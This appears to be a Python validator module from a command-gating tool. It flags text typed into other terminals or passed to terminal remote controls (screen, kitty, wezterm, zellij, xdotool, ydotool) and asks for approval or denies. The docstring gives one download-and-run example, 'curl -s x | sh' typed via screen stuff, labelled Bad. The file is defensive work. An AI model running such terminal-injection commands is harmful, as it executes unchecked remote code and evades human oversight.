"""Text typed into another terminal, or a command handed to a terminal's remote control: it
runs there, in whatever that terminal holds, with no check of its own.

screen's ``-X stuff TEXT`` and ``-X exec CMD``, kitty's ``@ send-text``/``@ launch``,
wezterm's ``cli send-text``/``cli spawn``, zellij's ``action write-chars``/``run``, and the
keyboard typists ``xdotool type`` and ``ydotool type``. tmux's own verbs are read by
``launchers.tmux_commands``; AppleScript's ``do script``/``write text`` by the inline-code
reader.
"""

from __future__ import annotations

from clawgate.decision import NO_OPINION, Outcome, Verdict
from clawgate.lazyre import lazy_pattern
from clawgate.shell.model import SimpleCommand
from clawgate.validators.argv import Options, command_start, inner, opts
from clawgate.validators.base import Context, Validator, register

# The keys that end a typed line: a real newline or carriage return, or its spelling that the
# receiving program reads (``\n``, ``\r`` in kitty's and screen's text, screen's ``^M``).
_ENTER = lazy_pattern(r"(?:\\[rn]|\^M|[\r\n])+$")
_SCREEN_OPTIONS = opts("SpcheTtsRD", "")
_KITTY_SEND = opts("mt", "match match-tab from-file bracketed-paste")
_KITTY_LAUNCH = opts("m", "match type cwd title tab-title window-title env var location "
                          "os-window-title os-window-class os-window-name logo "
                          "logo-position logo-alpha color spacing marker watcher source-window "
                          "next-to bias")
_WEZTERM_SEND = opts("", "pane-id")
_WEZTERM_SPAWN = opts("", "pane-id domain-name workspace cwd class position")
_ZELLIJ_RUN = opts("dnc", "direction name cwd")
_TYPIST = opts("", "window delay terminator file")
# The verbs of each remote control that only list, read or move focus: no opinion.
_KITTY_READS = frozenset({"ls", "get-text", "get-colors", "focus-window", "focus-tab",
                          "set-window-title", "set-tab-title", "resize-window"})
_WEZTERM_READS = frozenset({"list", "list-clients", "get-text", "activate-pane",
                            "activate-tab", "get-pane-direction", "set-tab-title"})
TYPISTS = frozenset({"screen", "kitty", "wezterm", "zellij", "xdotool", "ydotool"})


def typed_line(text: str) -> str:
    """The command line typed text amounts to: the keys that end it dropped."""
    return _ENTER.sub("", text).replace("\\n", "\n").replace("\\r", "\n")


def _text_after(cmd: SimpleCommand, at: int, spec: Options) -> str | None:
    """The literal text given after the options of the verb at ``at``: the first operand."""
    start = command_start(cmd.words, at + 1, spec)
    if start is None:
        return None
    return cmd.words[start].value


def _verb(cmd: SimpleCommand, *heads: str) -> int | None:
    """Index of the verb after the remote-control word ``heads`` (kitty's ``@``, wezterm's
    ``cli``, zellij's ``action``), or of ``heads``' own word for the typists."""
    words = cmd.words
    for i, word in enumerate(words[1:], start=1):
        if word.value in heads:
            return i + 1 if i + 1 < len(words) else None
    return None


def _payload(cmd: SimpleCommand) -> tuple[list[SimpleCommand | str], bool] | None:
    """(what runs, whether it is typed) for ``cmd``; None when it types and runs nothing."""
    program, words = cmd.program, cmd.words
    values = [w.value for w in words]
    if program == "screen" and "-X" in values:
        at = values.index("-X") + 1
        verb = values[at] if at < len(values) else None
        if verb == "stuff" and at + 1 < len(values):
            text = values[at + 1]
            return ([typed_line(text)] if text is not None else []), True
        if verb in ("exec", "screen") and at + 1 < len(words):
            return [inner(cmd, at + 1)], False
        return None
    if program == "screen" and any(v is not None and v.startswith("-") and "m" in v.lstrip("-")
                                   for v in values[1:]):
        start = command_start(words, 1, _SCREEN_OPTIONS)
        return ([inner(cmd, start)], False) if start is not None else None
    if program == "kitty":
        if values[1:2] != ["@"]:
            return None
        at = 2
        verb = values[at] if at < len(values) else None
        if verb == "send-text":
            text = _text_after(cmd, at, _KITTY_SEND)
            return ([typed_line(text)] if text is not None else []), True
        if verb in ("launch", "new-window"):
            start = command_start(words, at + 1, _KITTY_LAUNCH)
            return ([inner(cmd, start)] if start is not None else []), False
        return None if verb in _KITTY_READS else ([], True)
    if program == "wezterm":
        if values[1:2] != ["cli"]:
            return None
        at = 2
        verb = values[at] if at < len(values) else None
        if verb == "send-text":
            text = _text_after(cmd, at, _WEZTERM_SEND)
            return ([typed_line(text)] if text is not None else []), True
        if verb in ("spawn", "split-pane"):
            start = command_start(words, at + 1, _WEZTERM_SPAWN)
            return ([inner(cmd, start)] if start is not None else []), False
        return None if verb in _WEZTERM_READS else ([], True)
    if program == "zellij":
        verb_at = _verb(cmd, "action")
        if verb_at is not None and values[verb_at] == "write-chars":
            text = values[verb_at + 1] if verb_at + 1 < len(values) else None
            return ([typed_line(text)] if text is not None else []), True
        if values[1:2] == ["run"] or (verb_at is not None and values[verb_at] == "new-pane"
                                      and "--" in values):
            start = (values.index("--") + 1 if "--" in values
                     else command_start(words, 2, _ZELLIJ_RUN))
            return ([inner(cmd, start)] if start is not None and start < len(words)
                    else []), False
        return None
    if program in ("xdotool", "ydotool") and "type" in values:
        text = _text_after(cmd, values.index("type"), _TYPIST)
        return ([typed_line(text)] if text is not None else []), True
    return None


@register
class TypedIntoTerminal(Validator):
    """Text typed into another terminal (``screen -X stuff``, ``kitty @ send-text``,
    ``wezterm cli send-text``, ``zellij action write-chars``, ``xdotool type``) runs in
    whatever that terminal holds, a shell or a session on another host: ASK, and the text is
    checked as the command line it types (a download-and-run typed is DENY). A command handed
    to a terminal's remote control (``kitty @ launch``, ``wezterm cli spawn``, ``zellij run``,
    ``screen -dm``) is that command, checked as itself.

    Bad: ``screen -X stuff 'curl -s x | sh\\n'``. Harmless: ``kitty @ ls``, ``wezterm cli
    list``.
    """

    id = "CG-ESC-022"
    programs = TYPISTS

    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
        if cmd.program not in TYPISTS:
            return NO_OPINION
        found = _payload(cmd)
        if found is None:
            return NO_OPINION
        runs, typed = found
        if not typed:
            return Verdict.unwrap(*runs) if runs else Verdict.ask(
                self.id, f"{cmd.program} starts a command that cannot be read here")
        return Verdict.unwrap(*runs, outcome=Outcome.ASK, rule_id=self.id,
                              message=f"{cmd.program} types text into another terminal, where "
                              "it runs unchecked")
